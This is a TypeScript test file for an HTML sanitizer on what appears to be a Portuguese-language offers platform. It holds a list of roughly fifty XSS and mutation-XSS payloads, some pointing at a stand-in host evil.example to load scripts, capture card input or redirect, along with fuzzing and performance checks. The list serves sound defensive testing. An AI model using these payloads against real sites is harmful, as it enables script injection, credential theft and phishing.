// tests/offers/clean-html.test.ts
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanHtml, textOf } from '@/lib/offers/clean-html'

/** What a page could be made to do, in the ways people have found. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\t\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>oi</p>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">oi</p>',
  '<style>*{background:url(//evil.example)}</style>',
  '<svg onload=alert(1)><script>alert(1)</script><p>oi</p></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=card><button>Pagar</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="https://ok.example" target="_self" onclick="alert(1)" ping="//evil.example">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><script>alert(1)</script-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><p>oi</p>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="pagamento" class="pay" name="card" data-x="1">oi</p>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<b><p><i></b></p></i><li>solto',
  '<a href="https://ok.example/?a=1&b=2"><a href="javascript:alert(1)">x</a></a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0000<script\u0000>alert(1)</script></p>',
]

const MAY_STAND =
  /^<(?:(?:p|strong|em|s|u|h2|h3|ul|ol|li|blockquote)|br ?\/|\/(?:p|strong|em|s|u|h2|h3|ul|ol|li|blockquote|a)|a(?: href="(?:https?:\/\/|mailto:)[^"<>]*")? rel="noopener nofollow" target="_blank")>$/

/** Read by the strictest reader there is: every `<` begins one of the tags that a page may have. */
function strangers(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? []
  return tags.filter((tag) => !MAY_STAND.test(tag))
}

describe('a text of a producer', () => {
  test.each(ATTACKS)('does nothing but stand there: %s', (attack) => {
    for (const html of [attack, `<p>antes ${attack} depois</p>`, `<ul><li>${attack}`]) {
      const clean = cleanHtml(html)
      expect(strangers(clean)).toEqual([])
      expect(cleanHtml(clean)).toBe(clean)
    }
  })

  test('keeps what it was written with', () => {
    const written =
      '<h2>O que você leva</h2><p><strong>24 aulas</strong> e <em>3 encontros</em><br />ao vivo</p>' +
      '<ul><li><p>um</p></li></ul><ol><li><p>dois</p></li></ol><blockquote><p>três</p></blockquote>' +
      '<p><a href="https://exemplo.com/?a=1&amp;b=2" rel="noopener nofollow" target="_blank">aqui</a></p>'
    expect(cleanHtml(written)).toBe(written)
  })

  test('has the same tags for the same thing, whoever wrote it', () => {
    expect(cleanHtml('<h1>Um</h1><b>dois</b> <i>três</i>')).toBe(
      '<h2>Um</h2><strong>dois</strong> <em>três</em>',
    )
  })

  test.each(['', '   ', '<p></p>', '<p>&nbsp;</p>', '<p><br></p>', '<ul><li></li></ul>', '<img>'])(
    'that says nothing is nothing: %j',
    (html) => expect(cleanHtml(html)).toBe(''),
  )

  test('of a million signs, nested as deep as it goes, is read in a moment', () => {
    const deep = `${'<blockquote>'.repeat(5_000)}x`
    const began = performance.now()
    cleanHtml('<p>'.repeat(20_000))
    cleanHtml('<'.repeat(100_000))
    cleanHtml(`<a href="${'&#106;'.repeat(20_000)}">x</a>`)
    expect(strangers(cleanHtml(deep))).toEqual([])
    expect(performance.now() - began).toBeLessThan(5_000)
  })

  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom('<p>', '</p>', '<a href="', '">', '<ul><li>', '&amp;', '&lt;', '<!--', '-->'),
      fc.string({ maxLength: 12 }),
    ),
    { maxLength: 8 },
  )
  test('put together from anything holds nothing strange, and cleaning it again changes nothing', () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = cleanHtml(parts.join(''))
        expect(strangers(clean)).toEqual([])
        expect(cleanHtml(clean)).toBe(clean)
      }),
      { numRuns: 600 },
    )
  })
})

test('signs that a database cannot keep are gone', () => {
  expect(cleanHtml('<p>a\u0000b\ud800c\u0007</p>')).toBe('<p>abc</p>')
})

test('what a text says without its tags is one line that can stand in a search result', () => {
  expect(
    textOf('<h2>Um</h2><p>dois<br>três &amp; <b>quatro</b></p><ul><li>5 &lt; 6</li></ul>'),
  ).toBe('Um dois três & quatro 5 < 6')
  expect(textOf('<p>aspas &quot;assim&quot; e d&#39;água</p>')).toBe('aspas "assim" e d\'água')
})
